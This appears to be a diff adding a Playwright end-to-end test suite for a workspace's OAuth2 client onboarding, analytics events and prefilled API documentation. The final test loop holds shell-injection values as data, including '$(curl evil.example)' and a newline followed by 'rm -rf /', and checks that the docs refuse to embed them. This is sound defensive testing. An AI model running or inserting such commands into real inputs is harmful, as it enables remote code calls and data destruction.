@@ -1,0 +1,176 @@
+import { strict as assert } from 'node:assert'
+import type { Page } from 'playwright-core'
+import { createPostgres } from '#shared/stores/postgres.ts'
+import { createCompany } from '../../infra/admin/people.ts'
+import { testOperator } from '../support/operator.ts'
+import { closeReveal, revealed } from '../support/reveal.ts'
+import {
+  api,
+  assertAccessible,
+  assertFits,
+  createClient,
+  OWNER,
+  requestToken,
+  sessionToken,
+  testWorkspace,
+  type Visit,
+  visit,
+} from '../support/workspace.ts'
+
+const CLIENTS = 'integrations/oauth2-clients'
+
+describe('workspace: the first hour', function () {
+  this.timeout(60_000)
+  let tab: Visit
+  afterEach(() => tab?.leave())
+
+  it('leads a new company from no figures to its first event, and claims only what the service has seen', async () => {
+    tab = await visit({ sessionToken: await ownerOfNewCompany(), path: '/ven_newcompany/analytics' })
+    const { page } = tab
+    await page.getByRole('heading', { name: 'Report your first event' }).waitFor()
+    assert.equal(await page.getByRole('table').count(), 0)
+    assert.equal(await page.getByLabel('First day').count(), 0)
+    await looksRight(page)
+    await page.getByRole('button', { name: 'Create a client' }).click()
+    const dialog = page.getByRole('dialog')
+    await dialog.getByLabel('Name').fill('Shop')
+    assert.equal(await dialog.getByText('No route of this API needs it yet.').count(), 3)
+    await dialog.getByRole('checkbox', { name: /Report analytics events/ }).check()
+    await dialog.getByRole('button', { name: 'Create client' }).click()
+    const client = await revealed(page)
+    assert.match(client.curl, /v1\/analytics\/ven_newcompany\/events/)
+
+    await requestToken({ ...client, clientSecret: `${client.clientSecret}x`, scope: 'analytics:write' })
+    const refused = dialog.getByRole('log', { name: 'Refused requests' })
+    await refused
+      .getByText(
+        `The client secret was wrong. Check that the deployed secret ends in ${client.clientSecret.slice(-4)}.`,
+      )
+      .waitFor()
+    await dialog.getByText('Waiting for the first token request').waitFor()
+    const { body } = await requestToken({ ...client, scope: 'analytics:write' })
+    await dialog.getByText(/Token issued at [\d:]+: the id and secret work\./).waitFor()
+    await dialog.getByText('No event from after this client was created has been counted yet.').waitFor()
+    assert.equal(await dialog.getByText(/It works|This client works/).count(), 0)
+    const event = { type: 'impression', eventId: 'first', occurredAt: new Date().toISOString() }
+    const token = String(body.access_token)
+    await api('/v1/analytics/ven_newcompany/events', { token, body: { events: [event] } })
+    await dialog.getByText('The newest event of your company, from any client, is from').waitFor()
+    await looksRight(page)
+    await closeReveal(page, 'Done')
+    await page.getByRole('link', { name: 'Analytics' }).click()
+    await page.getByRole('radio', { name: 'Impressions 1' }).waitFor({ state: 'attached' })
+  })
+
+  it('offers the code of a client that may report events while there are no figures', async () => {
+    const session = await ownerOfNewCompany('ven_silent')
+    const { clientId } = await createClient(session, {
+      vendorId: 'ven_silent',
+      name: 'Shop <b>1</b>',
+      scopes: ['analytics:read', 'analytics:write'],
+    })
+    tab = await visit({ sessionToken: session, path: '/ven_silent/analytics' })
+    await tab.page.getByRole('heading', { name: 'Report with Shop <b>1</b>' }).waitFor()
+    const code = await tab.page.getByRole('region', { name: 'curl command' }).innerText()
+    assert.match(code, new RegExp(`${clientId}[^/]*[\\s\\S]*/v1/analytics/ven_silent/events`))
+    assert.doesNotMatch(code, /daily/)
+    await looksRight(tab.page)
+  })
+
+  it('says that a read cannot be seen, and that no route needs a scope', async () => {
+    for (const [scope, words] of [
+      ['Read daily analytics', 'Successful reads are not recorded.'],
+      ['Read boosts', 'No route of this API needs its scopes yet.'],
+    ] as const) {
+      tab = await visit({ as: OWNER, path: `/ven_acme/${CLIENTS}?new` })
+      const dialog = tab.page.getByRole('dialog')
+      await dialog.getByLabel('Name').fill(scope)
+      await dialog.getByRole('checkbox', { name: new RegExp(scope) }).check()
+      await dialog.getByRole('button', { name: 'Create client' }).click()
+      const client = await revealed(tab.page)
+      await requestToken({ ...client, scope: scope === 'Read boosts' ? 'boost:read' : 'analytics:read' })
+      await dialog.getByText(words).waitFor()
+      await tab.leave()
+    }
+  })
+
+  it('opens the documentation with the client’s id, company and scopes, in the language of the tab', async () => {
+    const { clientId } = await createClient(await sessionToken(OWNER), {
+      name: 'Documented',
+      scopes: ['analytics:read', 'catalog:write'],
+    })
+    tab = await visit({ as: OWNER, path: `/ven_acme/${CLIENTS}/${clientId}` })
+    await tab.page.getByRole('tab', { name: 'Python' }).click()
+    const opening = tab.page.context().waitForEvent('page')
+    await tab.page.getByRole('link', { name: /filled in for this client/ }).press('Enter')
+    const docs = await opening
+    const requests: string[] = []
+    docs.on('request', (request) => requests.push(request.url()))
+    const env = docs.locator('figure', { hasText: 'INTEGRATION_VENDOR_ID=' }).locator('code').first()
+    await docs.getByText('Filled in for the client').waitFor()
+    assert.equal(
+      await env.textContent(),
+      `INTEGRATION_BASE_URL=${tab.baseUrl}
+INTEGRATION_VENDOR_ID=ven_acme
+INTEGRATION_CLIENT_ID=${clientId}
+INTEGRATION_CLIENT_SECRET=ias_…
+INTEGRATION_SCOPE="analytics:read catalog:write"`,
+    )
+    assert.equal(docs.url(), `${tab.baseUrl}/docs`)
+    await looksRight(docs)
+    await docs.getByRole('link', { name: 'Get a token' }).first().click()
+    assert.equal(await docs.getByLabel('Client id').inputValue(), clientId)
+    assert.equal(await docs.getByRole('checkbox', { name: 'catalog:write' }).isChecked(), true)
+    assert.equal(await docs.getByRole('checkbox', { name: 'boost:read' }).isChecked(), false)
+    assert.equal(await docs.getByText('access_token.py').first().isVisible(), true)
+    assert.equal(requests.join().includes(clientId), false)
+    await docs.getByRole('button', { name: 'Show placeholders' }).press('Enter')
+    await docs.waitForFunction(() => document.querySelector('blockquote button') === null)
+    assert.equal(await docs.getByLabel('Client id').inputValue(), '')
+    await docs.close()
+  })
+
+  for (const [name, value] of [
+    ['client', 'cli_aaaaaaaaaaaaaaaaaaaaaa$(curl evil.example)'],
+    ['client', 'cli_aaaaaaaaaaaaaaaaaaaaaa\nrm -rf /'],
+    ['company', 'ven_acme";id;"'],
+    ['scope', 'analytics:read"; curl evil.example; "'],
+  ] as const) {
+    it(`puts no ${name} from a link into an example that a shell would run: ${JSON.stringify(value)}`, async () => {
+      const fragment = new URLSearchParams({
+        client: 'cli_aaaaaaaaaaaaaaaaaaaaaa',
+        company: 'ven_acme',
+        scope: 'analytics:read',
+        language: 'py',
+        [name]: value,
+      })
+      tab = await visit({ path: `/docs#${fragment}` })
+      await tab.page.waitForFunction(() => location.hash === '')
+      await tab.page.getByText('INTEGRATION_CLIENT_ID=cli_…').waitFor()
+      assert.equal(await tab.page.getByText('Filled in for the client').count(), 0)
+    })
+  }
+})
+
+async function looksRight(page: Page): Promise<void> {
+  const size = page.viewportSize() ?? { width: 1280, height: 900 }
+  await assertAccessible(page)
+  await page.setViewportSize({ width: 320, height: 740 })
+  await assertFits(page)
+  await page.emulateMedia({ colorScheme: 'dark' })
+  await assertAccessible(page, ['color-contrast'])
+  await page.emulateMedia({ colorScheme: 'light' })
+  await page.setViewportSize(size)
+}
+
+/** Returns a session of the owner of a company of which nothing has been reported. */
+async function ownerOfNewCompany(vendorId = 'ven_newcompany'): Promise<string> {
+  const { stack } = await testWorkspace()
+  const db = createPostgres({ url: stack.stores.postgres.ownerUrl, poolSize: 1, applicationName: 'test' })
+  const [email, password] = [`owner@${vendorId.slice(4)}.example`, 'a password for a new company']
+  const owner = { email, name: 'Nora', password: async () => password, account: 'new' as const }
+  const place = { timezone: 'Europe/Berlin', currency: 'EUR' }
+  await createCompany(db, { vendorId, name: 'New company', ...place, by: testOperator(), owner })
+  await db.destroy()
+  return (await api('/v1/session', { body: { email, password } })).sessionToken
+}
